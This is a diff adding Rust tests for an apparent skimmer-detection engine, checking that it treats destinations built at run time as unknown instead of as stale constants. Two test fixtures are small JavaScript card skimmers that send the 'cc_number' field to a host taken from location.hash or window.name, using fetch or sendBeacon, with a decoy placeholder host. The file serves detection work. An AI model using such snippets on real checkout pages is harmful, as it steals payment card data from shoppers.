@@ -1,0 +1,63 @@
+//! Destinations built at run time (issue 9, class 2): `new URL(path, base)`, URL objects, a
+//! URL set in a class constructor, decoders keyed by object fields, hosts with an unknown first
+//! label, arrays mutated before use, percent-encoded hosts; and a value the engine cannot fully
+//! know is unknown, never a stale constant.
+
+mod engine_support;
+use engine_support::{analyse, check_dir};
+
+#[test]
+fn destinations_built_at_run_time_are_resolved() {
+    let (skim, legit) = check_dir("destinations");
+    assert!(
+        skim >= 6 && legit >= 2,
+        "{skim} skimmers, {legit} legitimate"
+    );
+}
+
+#[test]
+fn a_host_reassigned_in_a_callback_is_unknown_not_stale() {
+    let r = analyse(
+        "stale.js",
+        "var dest = 'https://cdn.decoy-host.example/c';\n\
+         setTimeout(function () { dest = 'https://' + location.hash.slice(1) + '/c'; }, 100);\n\
+         document.querySelector('#pay').onclick = function () {\n\
+           fetch(dest, { method: 'POST', body: document.getElementById('cc_number').value });\n\
+         };",
+    );
+    assert!(
+        r.findings
+            .iter()
+            .all(|f| !f.hosts.iter().any(|h| h.contains("decoy-host"))),
+        "a stale constant was reported: {:?}",
+        r.findings
+    );
+    // Card data still goes somewhere the analysis cannot name: reported, not ignored.
+    assert!(
+        r.findings
+            .iter()
+            .any(|f| f.rule == "payment-data-unresolved-destination"),
+        "{:?}",
+        r.findings
+    );
+}
+
+#[test]
+fn an_object_property_changed_inside_a_function_is_not_a_constant() {
+    let r = analyse(
+        "obj.js",
+        "var cfg = { host: 'decoy-host.example' };\n\
+         function configure(h) { cfg.host = h; }\n\
+         configure(window.name);\n\
+         document.querySelector('#pay').onclick = function () {\n\
+           navigator.sendBeacon('https://' + cfg.host + '/b', document.getElementById('cc_number').value);\n\
+         };",
+    );
+    assert!(
+        r.findings
+            .iter()
+            .all(|f| !f.hosts.iter().any(|h| h.contains("decoy-host"))),
+        "{:?}",
+        r.findings
+    );
+}
